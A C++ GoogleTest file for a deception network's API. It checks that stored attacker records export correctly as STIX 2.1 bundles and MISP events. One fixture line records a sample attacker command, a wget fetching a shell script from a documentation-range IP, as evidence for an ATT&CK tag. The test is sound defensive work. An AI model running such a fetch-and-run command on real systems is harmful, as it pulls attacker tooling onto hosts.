// The export routes over a real SQLite repository: one attacker as a STIX 2.1 bundle and as a
// MISP event, and the fleet's most recent attackers, each a download named for what it holds.
// The facts an export carries are the stored ones — the address, the ATT&CK tags, a dropped
// file's hash, a targeted mail domain, the intel verdict — and an unknown attacker is a 404 that
// names it. (The documents' structure is pinned in tests/ttp/stix_bundle_test.cc and
// misp_event_test.cc.)
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "api/auth/login_service.h"
#include "api/auth/sse_tickets.h"
#include "api/auth/token_service.h"
#include "api/http/route_table.h"
#include "api/routes/routes.h"
#include "bus/inprocess_bus.h"
#include "core/time.h"
#include "store/attachment_repository.h"
#include "store/attacker_repository.h"
#include "store/smtp_target_repository.h"
#include "store/sqlite/sqlite_repository.h"
#include "store/ttp_repository.h"
#include "tests_support.h"

namespace decnet::api {
namespace {

using nlohmann::json;

class ExportRoutes : public ::testing::Test {
 protected:
  void SetUp() override {
    repo_ = store::sqlite::open_sqlite_repository({.path = dir_ / "decnet.db"});
    TokenServiceOptions token_options;
    token_options.cache_seconds = 0;
    tokens_ = std::make_unique<TokenService>(*repo_, "exports-test-secret-0123456789abcdef",
                                             token_options);
    LoginServiceOptions login_options;
    login_options.limiter_enabled = false;
    logins_ = std::make_unique<LoginService>(*repo_, *tokens_, login_options);
    context_ = std::make_unique<ApiContext>(ApiContext{*repo_, bus_, *tokens_, *logins_, tickets_});
    router_ = std::make_unique<Router>(tokens_.get());
    add_export_routes(*router_, *context_);
    const auto user = logins_->create_user("eve", "correct horse battery", Role::kViewer, false);
    ASSERT_TRUE(user.ok());
    viewer_ = tokens_->issue(*user.user).token;
  }
  void TearDown() override {
    router_.reset();
    repo_->close();
    bus_.close();
  }

  // An attacker with a tag, a dropped file and a targeted domain.
  std::string seed(const std::string& ip) {
    const auto now = core::now_micros();
    store::AttackerActivity activity{ip, now - 60'000'000, now, 12, 0, {}};
    const auto a = repo_->write_now(
        [&](store::WriteScope& w) { return repo_->attackers().record_activity(w, activity); });
    repo_->write_now([&](store::WriteScope& w) {
      store::TtpTag t;
      t.source_kind = "command";
      t.source_id = a.uuid + "#0";
      t.attacker_uuid = a.uuid;
      t.tactic = "TA0011";
      t.technique_id = "T1105";
      t.confidence = 0.85;
      t.rule_id = "R0012";
      t.evidence = R"({"command_text":"wget http://198.51.100.9/x.sh"})";
      repo_->ttp().insert_tags(w, {t});
      store::AttachmentObservation file;
      file.sha256 = std::string(64, 'c');
      file.attacker_uuid = a.uuid;
      file.seen_at = now;
      repo_->attachments().upsert_observed_attachment(w, file);
      repo_->smtp_targets().increment_smtp_target(w, a.uuid, "victim.example", 3, now);
    });
    return a.uuid;
  }

  struct Reply {
    int status;
    json body;
    std::string disposition;
  };
  Reply get(const std::string& target) {
    Request req;
    req.method = "GET";
    req.set_target(target);
    req.peer_address = "127.0.0.1";
    req.headers["Authorization"] = "Bearer " + viewer_;
    const auto outcome = router_->handle(req);
    const auto it = outcome.response.headers.find("Content-Disposition");
    return {outcome.response.status, json::parse(outcome.response.body, nullptr, false),
            it == outcome.response.headers.end() ? "" : it->second};
  }

  testing::TempDir dir_;
  bus::InProcessBus bus_;
  std::unique_ptr<store::Repository> repo_;
  std::unique_ptr<TokenService> tokens_;
  std::unique_ptr<LoginService> logins_;
  SseTicketStore tickets_;
  std::unique_ptr<ApiContext> context_;
  std::unique_ptr<Router> router_;
  std::string viewer_;
};

bool has(const json& objects, const std::function<bool(const json&)>& match) {
  return std::any_of(objects.begin(), objects.end(), match);
}

TEST_F(ExportRoutes, AnAttackerIsABundleOfWhatIsStoredAboutIt) {
  const auto uuid = seed("198.51.100.40");
  const auto r = get("/api/v1/attackers/" + uuid + "/export/stix");
  ASSERT_EQ(r.status, 200) << r.body;
  EXPECT_EQ(r.disposition,
            "attachment; filename=\"decnet-attacker-" + uuid.substr(0, 8) + ".stix.json\"");
  const auto& objects = r.body["objects"];
  EXPECT_TRUE(has(objects, [](const json& o) {
    return o["type"] == "ipv4-addr" && o["value"] == "198.51.100.40";
  }));
  EXPECT_TRUE(has(objects, [](const json& o) {
    return o["type"] == "attack-pattern" && o["external_references"][0]["external_id"] == "T1105";
  }));
  EXPECT_TRUE(has(objects, [](const json& o) {
    return o["type"] == "indicator" &&
           o["pattern"].get<std::string>().find(std::string(64, 'c')) != std::string::npos;
  }));
  EXPECT_TRUE(has(objects, [](const json& o) {
    return o["type"] == "domain-name" && o["value"] == "victim.example";
  }));
  EXPECT_EQ(std::count_if(objects.begin(), objects.end(),
                          [](const json& o) { return o["type"] == "sighting"; }),
            1);
}

TEST_F(ExportRoutes, AnAttackerIsAMispEventOfWhatIsStoredAboutIt) {
  const auto uuid = seed("198.51.100.41");
  const auto r = get("/api/v1/attackers/" + uuid + "/export/misp");
  ASSERT_EQ(r.status, 200) << r.body;
  EXPECT_EQ(r.disposition,
            "attachment; filename=\"decnet-attacker-" + uuid.substr(0, 8) + ".misp.json\"");
  const auto& attributes = r.body["Event"]["Attribute"];
  EXPECT_TRUE(has(attributes, [](const json& a) {
    return a["type"] == "ip-src" && a["value"] == "198.51.100.41";
  }));
  EXPECT_TRUE(has(attributes, [](const json& a) {
    return a["type"] == "sha256" && a["value"] == std::string(64, 'c');
  }));
  EXPECT_TRUE(has(attributes, [](const json& a) {
    return a["type"] == "domain" && a["value"] == "victim.example";
  }));
  ASSERT_TRUE(r.body["Event"].contains("Galaxy"));
  EXPECT_NE(
      r.body["Event"]["Galaxy"][0]["GalaxyCluster"][0]["value"].get<std::string>().find("T1105"),
      std::string::npos);
}

TEST_F(ExportRoutes, AnUnknownAttackerIsNamedInA404) {
  for (const char* kind : {"stix", "misp"}) {
    const auto r =
        get(std::string("/api/v1/attackers/0190a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b/export/") + kind);
    EXPECT_EQ(r.status, 404);
    EXPECT_NE(r.body.dump().find("unknown attacker uuid: '0190a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b'"),
              std::string::npos)
        << r.body;
  }
}

TEST_F(ExportRoutes, TheFleetIsItsMostRecentAttackersUpToTheLimit) {
  const auto a = seed("198.51.100.42");
  const auto b = seed("198.51.100.43");
  const auto both = get("/api/v1/attackers/export/misp");
  ASSERT_EQ(both.status, 200);
  EXPECT_EQ(both.body["response"].size(), 2u);
  EXPECT_EQ(both.disposition.rfind("attachment; filename=\"decnet-fleet-", 0), 0u)
      << both.disposition;
  const auto one = get("/api/v1/attackers/export/misp?limit=1");
  ASSERT_EQ(one.body["response"].size(), 1u);
  const auto stix = get("/api/v1/attackers/export/stix");
  ASSERT_EQ(stix.status, 200);
  for (const auto* ip : {"198.51.100.42", "198.51.100.43"}) {
    EXPECT_TRUE(has(stix.body["objects"], [&](const json& o) {
      return o.value("value", "") == ip;
    })) << ip;
  }
  EXPECT_EQ(get("/api/v1/attackers/export/stix?limit=0").status, 422);
  (void)a;
  (void)b;
}

}  // namespace
}  // namespace decnet::api
